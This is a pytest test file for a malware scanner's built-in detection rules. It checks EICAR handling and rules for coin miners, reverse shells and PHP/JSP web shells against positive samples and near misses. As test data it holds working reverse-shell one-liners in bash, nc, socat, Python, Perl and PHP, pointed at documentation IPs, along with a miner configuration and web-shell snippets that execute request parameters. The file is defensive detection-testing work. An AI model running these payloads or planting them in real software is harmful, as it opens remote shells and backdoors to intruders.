"""EICAR by definition and the built-in YARA rules, each with a positive and a near miss."""

from __future__ import annotations

from pathlib import Path

import pytest

from hullguard.engine.engine import Engine

BUILTIN_DIR = Path(__file__).resolve().parents[3] / "src" / "hullguard" / "engine" / "builtin"

S = "stratum" + "+"  # pieces, so this file never holds a whole sample


def names(engine: Engine, data: bytes) -> list[str]:
    return [v.detection.name for v in engine.scan_bytes(data).detections if v.detection]


def test_eicar_exact(engine: Engine, eicar: bytes) -> None:
    out = engine.scan_bytes(eicar)
    (v,) = out.detections
    assert v.detection is not None
    d = v.detection
    assert (d.name, d.type, d.signature) == ("Eicar", "Test file", "builtin:eicar")
    assert v.detection.tags == "@NAME=Eicar@TYPE=Teststring@SUSP=inf"
    assert v.sha1 == "3395856CE81F2B7382DEE72602F798B642F14140"
    assert v.inner == ()


@pytest.mark.parametrize("tail", [b"\n", b"\r\n", b"  \t ", b"\x1a", b" " * 60])
def test_eicar_with_trailing_whitespace(engine: Engine, eicar: bytes, tail: bytes) -> None:
    assert names(engine, eicar + tail) == ["Eicar"]


@pytest.mark.parametrize(
    "make",
    [
        lambda e: e + b" " * 61,  # 129 bytes
        lambda e: b" " + e,  # offset 1
        lambda e: e + b"x",  # non-whitespace after
        lambda e: b"prefix text\n" + e,  # later in a file
        lambda e: e[:-1],  # incomplete
    ],
)
def test_eicar_negative(engine: Engine, eicar: bytes, make: object) -> None:
    assert callable(make)
    assert names(engine, make(eicar)) == []


def test_builtin_files_do_not_contain_eicar(eicar: bytes) -> None:
    for path in BUILTIN_DIR.iterdir():
        assert eicar not in path.read_bytes(), path
    src = (BUILTIN_DIR.parent / "eicar.py").read_bytes()
    assert eicar not in src


def test_builtin_rules_do_not_match_themselves(engine: Engine) -> None:
    for path in BUILTIN_DIR.iterdir():
        assert names(engine, path.read_bytes()) == [], path


# -- coin miner ---------------------------------------------------------------------------------
MINER_CONFIG = (
    '{\n  "autosave": true,\n  "donate-level": 1,\n  "cpu": {"enabled": true},\n'
    '  "pools": [\n    {\n      "url": "' + S + 'tcp://pool.example.test:3333",\n'
    '      "user": "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98u'
    'Nbr2VBBEt7f2wfn3RVGQBEP3A",\n'
    '      "pass": "x",\n      "algo": "rx/0"\n    }\n  ]\n}\n'
)


def test_coinminer_config(engine: Engine) -> None:
    assert names(engine, MINER_CONFIG.encode()) == ["Linux/CoinMiner.Config"]
    d = engine.scan_bytes(MINER_CONFIG.encode()).detections[0].detection
    assert d is not None and d.type == "Coin miner"
    assert d.tags == "@NAME=Linux/CoinMiner.Config@TYPE=Coin miner@SUSP=inf"


def test_coinminer_command_line(engine: Engine) -> None:
    cmd = "#!/bin/sh\n./xmr" + "ig -o " + S + "ssl://pool.example.test:443 -u " + "4" * 95 + " -k\n"
    assert names(engine, cmd.encode()) == ["Linux/CoinMiner.Config"]


@pytest.mark.parametrize(
    "text",
    [
        "The stratum protocol is used by mining pools; see the docs about pools and user accounts.\n",
        '{"pools": [], "url": "https://example.test", "user": "bob", "pass": "x"}\n',
        "Connect to " + S + "tcp://pool.example.test:3333 for the demo.\n",  # URL alone, no miner config
    ],
)
def test_coinminer_near_miss(engine: Engine, text: str) -> None:
    assert names(engine, text.encode()) == []


# -- reverse shells -----------------------------------------------------------------------------
DT = "/dev/" + "tcp/"
REVERSE_SHELLS = [
    "#!/bin/bash\nbash -i >& " + DT + "10.0.0.1/4444 0>&1\n",
    "/bin/sh -c 'sh -i >& " + DT + "192.0.2.7/8080 0>&1'\n",
    "0<&196;exec 196<>" + DT + "192.0.2.7/4242; sh <&196 >&196 2>&196\n",
    "nc -e /bin/sh 192.0.2.7 4444\n",
    "ncat 192.0.2.7 4444 -e /bin/bash\n",
    "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 192.0.2.7 4444 >/tmp/f\n",
    "socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:192.0.2.7:4444\n",
    "socat TCP:192.0.2.7:4444 EXEC:/bin/sh\n",
    "import socket,subprocess,os\ns=socket.socket(socket.AF_INET,socket.SOCK_STREAM)\n"
    "s.connect((\"192.0.2.7\",4444))\nos.dup2(s.fileno(),0)\nos.dup2(s.fileno(),1)\nos.dup2(s.fileno(),2)\n"
    "p=subprocess.call([\"/bin/sh\",\"-i\"])\n",
    "import socket,os,pty;s=socket.socket();s.connect((\"192.0.2.7\",4444));"
    "[os.dup2(s.fileno(),f)for f in(0,1,2)];pty.spawn(\"/bin/bash\")\n",
    "perl -e 'use Socket;$i=\"192.0.2.7\";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"
    "if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");open(STDOUT,\">&S\");"
    "open(STDERR,\">&S\");exec(\"/bin/sh -i\");};'\n",
    "php -r '$sock=fsockopen(\"192.0.2.7\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");'\n",
]


@pytest.mark.parametrize("script", REVERSE_SHELLS)
def test_reverse_shell(engine: Engine, script: str) -> None:
    assert names(engine, script.encode()) == ["Linux/ReverseShell.Script"]


@pytest.mark.parametrize(
    "text",
    [
        "Bash can open " + DT + "host/port pseudo-devices; interactive shells use -i.\n",
        "exec 3<>" + DT + "localhost/80; echo -e 'GET / HTTP/1.0\\n' >&3; cat <&3\n",  # health check
        "nc -z 192.0.2.7 4444 && echo open\n",
        "import socket\ns = socket.socket()\ns.connect((\"localhost\", 80))\ns.sendall(b'ping')\n",
        "import pty\npty.spawn(\"/bin/bash\")\n",  # no socket
        "socat TCP-LISTEN:8080,fork TCP:localhost:80\n",
    ],
)
def test_reverse_shell_near_miss(engine: Engine, text: str) -> None:
    assert names(engine, text.encode()) == []


# -- web shells ---------------------------------------------------------------------------------
WEB_SHELLS = [
    "<?php @eval(base64_decode($_POST['z0'])); ?>",
    "<?php eval($_REQUEST['cmd']);",
    "<?php if(isset($_GET['c'])){ system($_GET['c']); } ?>",
    "<?php echo shell_exec($_POST[\"x\"]); ?>",
    "<?php echo `$_GET[cmd]`; ?>",
    "<?=passthru($_COOKIE['k']);?>",
]


@pytest.mark.parametrize("page", WEB_SHELLS)
def test_php_webshell(engine: Engine, page: str) -> None:
    assert names(engine, page.encode()) == ["PHP/WebShell.Generic"]
    d = engine.scan_bytes(page.encode()).detections[0].detection
    assert d is not None and d.type == "Backdoor"


def test_jsp_webshell(engine: Engine) -> None:
    page = (
        '<%@ page import="java.io.*" %>'
        '<% Process p = Runtime.getRuntime().exec(request.getParameter("cmd")); %>'
    )
    assert names(engine, page.encode()) == ["JSP/WebShell.Generic"]


@pytest.mark.parametrize(
    "text",
    [
        "<?php echo htmlspecialchars($_POST['name']); ?>",
        "<?php $x = base64_decode($data); eval('return 1;'); ?>",
        "system($_GET['cmd']) is how web shells run commands; never do this.\n",  # no PHP tag
        "<?php system('uptime'); ?>",
    ],
)
def test_php_webshell_near_miss(engine: Engine, text: str) -> None:
    assert names(engine, text.encode()) == []
